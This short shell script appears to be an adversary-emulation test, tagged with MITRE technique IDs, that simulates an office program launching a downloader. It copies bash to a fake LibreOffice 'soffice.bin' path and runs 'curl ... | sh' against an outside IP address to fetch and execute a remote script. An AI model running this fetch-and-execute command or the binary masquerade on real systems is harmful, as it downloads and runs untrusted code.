# title: An office program starts a shell that downloads
# technique: T1203 T1204.002
# needs: bash curl

mkdir -p /opt/libreoffice/program
cp /bin/bash /opt/libreoffice/program/soffice.bin
/opt/libreoffice/program/soffice.bin -c 'sh -c "curl -s http://192.88.99.7/x.sh | sh"; :'
